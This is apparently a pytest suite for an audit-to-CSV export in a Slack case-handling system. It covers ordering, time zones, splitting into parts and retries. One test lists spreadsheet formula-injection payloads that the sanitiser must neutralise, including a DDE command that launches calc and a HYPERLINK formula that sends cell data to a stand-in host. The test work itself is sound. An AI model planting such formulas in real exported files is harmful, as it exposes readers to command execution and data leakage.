"""The audit as a file: every entry of the range once, no cell that computes, a large answer in parts."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import msgspec
import pytest

from functions.deliver.auditing import HEADS, safe
from functions.deliver.failures import Held
from sop_aws.audit import AuditStore
from sop_aws.deliveries import Delivery
from sop_aws.settings import SettingsStore
from sop_core.audit import Entry, Wanted
from sop_core.settings import Settings
from sop_core.settings_reading import merge
from tests.standin.slack import Fault

if TYPE_CHECKING:
    from tests.unit.cases.conftest import Desk

ADMIN = "U0ADMIN01"


def an_entry(number: int, *, at: str = "2027-01-15T08:00:00Z", **changes: str) -> Entry:
    known = {
        "kind": "decision",
        "actor": "U0AGENT01",
        "action": "answered",
        "subject": "run-1",
        "detail": "channel = phone",
    }
    return msgspec.convert({"at": at, "id": f"run-1#{number:06d}", **known, **changes}, Entry)


def asked(desk: Desk, *, first: str = "2027-01-15", last: str = "2027-01-15", kind: str = "") -> str:
    """Ask for the audit of a day; return the id of the row's case."""
    row = Delivery(
        id="AUDIT-1#000001#0",
        case="AUDIT-1",
        version=1,
        kind="audit",
        channel=ADMIN,
        created_at="2027-01-15T08:00:00Z",
        next_attempt_at="2027-01-15T08:00:00Z",
        about=msgspec.json.encode(Wanted(first=first, last=last, kind=kind)).decode(),
    )
    desk.cases.outbox.ask_for_file(row)
    return row.case


def keep(desk: Desk, *entries: Entry) -> None:
    store = AuditStore(desk.aws.dynamodb, desk.aws.cases_table)
    for entry in entries:
        store.add(entry, keep_days=730)


def files(desk: Desk) -> dict[str, list[dict[str, str]]]:
    """Every file that was sent, by its name, as a spreadsheet reads it."""
    return {
        name: list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        for name, content in desk.slack.stored.values()
    }


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        '"=1',
        "'=1",
        "\uff1d1",
        "\uff0b1",
        '=cmd|"/C calc"!A0',
        '=HYPERLINK("http://x.example?"&A1,"see")',
    ],
)
def test_no_cell_begins_a_formula(cell: str) -> None:
    assert safe(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "channel = phone", "2027-01-15 03:00:00-05:00", "Zoë O'Hara", "SOP-8ABC1234"])
def test_every_other_cell_is_as_it_was(cell: str) -> None:
    assert safe(cell) == cell


def test_a_name_or_a_setting_that_would_compute_is_text_in_the_file(desk: Desk) -> None:
    desk.slack.names["U0AGENT01"] = "=HYPERLINK(1)"
    keep(desk, an_entry(1, detail='a "quoted", value\r\nof two lines'), an_entry(2, detail="@SUM(1)"))
    desk.worker().deliver(asked(desk))
    [rows] = files(desk).values()
    assert [row["Who"] for row in rows] == ["'=HYPERLINK(1)"] * 2
    assert [row["Detail"] for row in rows] == ['a "quoted", value\r\nof two lines', "'@SUM(1)"]


def test_entries_events_and_changes_of_settings_stand_in_the_order_of_time_with_names_and_both_times(
    desk: Desk,
) -> None:
    desk.slack.names = {"U0AGENT01": "Maya Torres", "U0SPEC001": "Priya Raman", ADMIN: "Dana Whitfield"}
    desk.claim(desk.open())
    keep(desk, an_entry(1, at="2027-01-15T05:00:00Z"), an_entry(2, at="2027-01-16T04:59:59Z"))
    keep(desk, an_entry(3, at="2027-01-15T04:59:59Z"), an_entry(4, at="2027-01-16T05:00:00Z"))
    store = SettingsStore(desk.aws.dynamodb, desk.aws.settings_table, desk.clock)
    changed = merge(Settings.default(), {"roles": {"lead": ["U0SPEC001"]}})
    store.put(changed, actor=ADMIN, at="2027-01-15T09:00:00Z", expected_version=0)
    desk.worker().deliver(asked(desk))
    [(name, rows)] = files(desk).items()
    assert name == "audit 2027-01-15 to 2027-01-15.csv"
    assert tuple(rows[0]) == HEADS
    assert [(row["Time (office)"], row["Who"], row["What"], row["Detail"]) for row in rows] == [
        ("2027-01-15 00:00:00-05:00", "Maya Torres", "answered", "channel = phone"),
        ("2027-01-15 03:00:00-05:00", "Maya Torres", "open", "new → open"),
        ("2027-01-15 03:00:00-05:00", "Priya Raman", "claim", "open → claimed"),
        ("2027-01-15 04:00:00-05:00", "Dana Whitfield", "changed", "nothing → Priya Raman (U0SPEC001)"),
        ("2027-01-15 23:59:59-05:00", "Maya Torres", "answered", "channel = phone"),
    ]
    assert rows[0]["Time (UTC)"] == "2027-01-15T05:00:00Z"
    assert rows[0]["User id"] == "U0AGENT01"
    [shared] = desk.slack.shared
    assert (shared["channel_id"], shared["initial_comment"]) == (
        f"D{ADMIN}",
        "The audit from 2027-01-15 to 2027-01-15, everything: 5 entries.",
    )


def test_no_note_and_no_reason_that_somebody_typed_is_in_the_file(desk: Desk) -> None:
    desk.claim(desk.open())
    desk.worker().deliver(asked(desk))
    [(_, content)] = desk.slack.stored.values()
    assert "Marked" not in content.decode()


def test_one_kind_can_be_asked_for_and_nothing_is_a_file_too(desk: Desk) -> None:
    keep(desk, an_entry(1), an_entry(2, kind="view"))
    desk.worker().deliver(asked(desk, kind="view"))
    [rows] = files(desk).values()
    assert [row["Kind"] for row in rows] == ["view"]


def test_a_large_answer_comes_in_parts_with_every_entry_once(desk: Desk) -> None:
    keep(desk, *(an_entry(number) for number in range(123)))
    desk.worker().deliver(asked(desk))
    sent = files(desk)
    assert list(sent) == [f"audit 2027-01-15 to 2027-01-15 part {part}.csv" for part in (1, 2, 3)]
    assert [len(rows) for rows in sent.values()] == [50, 50, 23]
    assert desk.cases.outbox.pending("AUDIT-1") == ()
    assert sum(len(rows) for rows in sent.values()) == 123


@pytest.mark.parametrize(
    ("kind", "read"),
    [
        ("setting", {"SETTINGS"}),
        ("case", {"EVENTS", "SETTINGS"}),
        ("view", {"AUDIT"}),
        ("", {"AUDIT", "EVENTS", "SETTINGS"}),
    ],
)
def test_nothing_is_read_that_cannot_be_of_the_kind(desk: Desk, kind: str, read: set[str]) -> None:
    """And of a kind that is among others, nothing else leaves the table."""
    desk.claim(desk.open())
    keep(desk, an_entry(1), an_entry(2, kind="view"))
    case = asked(desk, kind=kind)
    given: list[dict[str, Any]] = []
    events = desk.aws.dynamodb.meta.events
    events.register("provide-client-params.dynamodb.Query", lambda params, **_: given.append(params))
    desk.worker().deliver(case)
    places = {
        str(value["S"]).partition("#")[0]
        for each in given
        for name, value in each["ExpressionAttributeValues"].items()
        if name in {":day", ":pk"} and not str(value["S"]).startswith("CASE#")
    }
    assert places - {"SETTINGS"} == read - {"SETTINGS"}
    filters = {each.get("FilterExpression") for each in given if str(each).count("AUDIT#2027")}
    assert filters == ({"contains(#body, :kind)"} if kind == "view" else {None} if kind == "" else set())
    [rows] = files(desk).values()
    assert {row["Kind"] for row in rows} == ({kind} if kind else {"case", "decision", "view"}) - {"setting"}


def test_of_what_is_found_at_once_a_year_is_one_file(desk: Desk) -> None:
    keep(desk, *(an_entry(day, at=f"2026-{day:02d}-03T08:00:00Z", kind="erasure") for day in range(1, 13)))
    desk.worker().deliver(asked(desk, first="2026-01-01", last="2026-12-31", kind="erasure"))
    [rows] = files(desk).values()
    assert len(rows) == 12


def test_of_what_takes_long_to_find_a_year_comes_in_parts_with_every_entry_once(desk: Desk) -> None:
    """A stretch without any sends no file; the last part always comes, so that it is known to be the last."""
    desk.seconds_a_look = 1
    found = ["2026-02-03", "2026-02-03", "2026-07-14", "2026-12-31"]
    keep(desk, *(an_entry(at, at=f"{day}T08:00:00Z", kind="erasure") for at, day in enumerate(found)))
    keep(desk, *(an_entry(number, at=f"2026-02-03T08:00:{number:02d}Z") for number in range(2, 60)))
    desk.worker().deliver(asked(desk, first="2026-01-01", last="2026-12-31", kind="erasure"))
    sent = files(desk)
    assert list(sent) == [f"audit 2026-01-01 to 2026-12-31 part {part}.csv" for part in (1, 2, 3)]
    assert [[row["Time (UTC)"][:10] for row in rows] for rows in sent.values()] == [found[:2], found[2:3], found[3:]]
    comments = [share["initial_comment"] for share in desk.slack.shared]
    assert [comment.endswith("The next part follows.") for comment in comments] == [True, True, False]


@pytest.mark.parametrize("seconds_a_look", [0, 5])
def test_a_part_that_is_made_again_ends_where_the_next_begins(desk: Desk, seconds_a_look: int) -> None:
    """However much quicker or slower the second attempt looks."""
    desk.seconds_a_look = 1
    keep(desk, *(an_entry(day, at=f"2026-01-{day:02d}T08:00:00Z") for day in range(1, 32)))
    case = asked(desk, first="2026-01-01", last="2026-01-31")
    desk.slack.faults.append(Fault(method="files.getUploadURLExternal", status=429, retry_after=5))
    with pytest.raises(Held):
        desk.worker().deliver(case)

    desk.clock.pass_(hours=1)
    desk.seconds_a_look = seconds_a_look
    desk.worker().deliver(case)

    times = [row["Time (UTC)"] for rows in files(desk).values() for row in rows]
    assert len(times) == 31
    assert times == sorted(set(times))


def test_where_nothing_is_found_one_file_says_so(desk: Desk) -> None:
    desk.worker().deliver(asked(desk, first="2026-01-01", last="2026-12-31", kind="erasure"))
    assert list(files(desk).items()) == [("audit 2026-01-01 to 2026-12-31.csv", [])]
    assert desk.cases.outbox.pending("AUDIT-1") == ()


def test_an_office_elsewhere_has_other_days_and_a_day_of_the_time_change_is_whole(desk: Desk) -> None:
    store = SettingsStore(desk.aws.dynamodb, desk.aws.settings_table, desk.clock)
    store.put(
        merge(Settings.default(), {"calendar": {"zone": "Europe/Berlin"}}),
        actor=ADMIN,
        at="2026-01-01T00:00:00Z",
        expected_version=0,
    )
    keep(desk, an_entry(1, at="2026-10-24T21:59:59Z"), an_entry(2, at="2026-10-24T22:00:00Z"))
    keep(desk, an_entry(3, at="2026-10-25T22:59:59Z"), an_entry(4, at="2026-10-25T23:00:00Z"))
    desk.worker().deliver(asked(desk, first="2026-10-25", last="2026-10-25"))
    [rows] = files(desk).values()
    assert [row["Time (office)"] for row in rows] == ["2026-10-25 00:00:00+02:00", "2026-10-25 23:59:59+01:00"]


def test_a_file_that_slack_would_not_take_is_sent_again_later(desk: Desk) -> None:
    keep(desk, an_entry(1))
    desk.slack.faults.append(Fault(method="files.getUploadURLExternal", status=429, retry_after=5))
    case = asked(desk)
    with pytest.raises(Held):
        desk.worker().deliver(case)
    desk.clock.pass_(hours=1)
    desk.worker().deliver(case)
    assert len(files(desk)) == 1
